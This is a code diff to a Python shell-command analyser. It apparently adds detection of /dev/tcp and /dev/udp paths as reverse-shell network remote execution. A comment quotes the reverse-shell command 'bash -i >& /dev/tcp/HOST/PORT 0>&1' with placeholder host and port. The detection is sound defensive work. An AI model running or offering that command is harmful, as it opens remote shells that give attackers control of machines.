@@ -133,6 +133,10 @@ def script_file(
         if path in ("/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"):
             yield from run_stdin(call, scene, positional=positional[1:], via=via)
             continue
+        if path.startswith(("/dev/tcp/", "/dev/udp/")):  # `bash -i >& /dev/tcp/HOST/PORT 0>&1`
+            host, _, port = path.removeprefix("/dev/").partition("/")[2].partition("/")
+            yield call.effect(EffectKind.NET_REMOTE_EXEC, Target(TargetKind.HOST, host), reverse="1", via="bash", port=port)
+            continue
         extra = {"dynamic": "interpreter" if target.dynamic else "", "unset": ",".join(field.unset), "source": brought(path, scene)}
         yield call.effect(EffectKind.CODE_SCRIPT, target, extra, certainty=weakest(call.certainty, sure), language="shell")
 
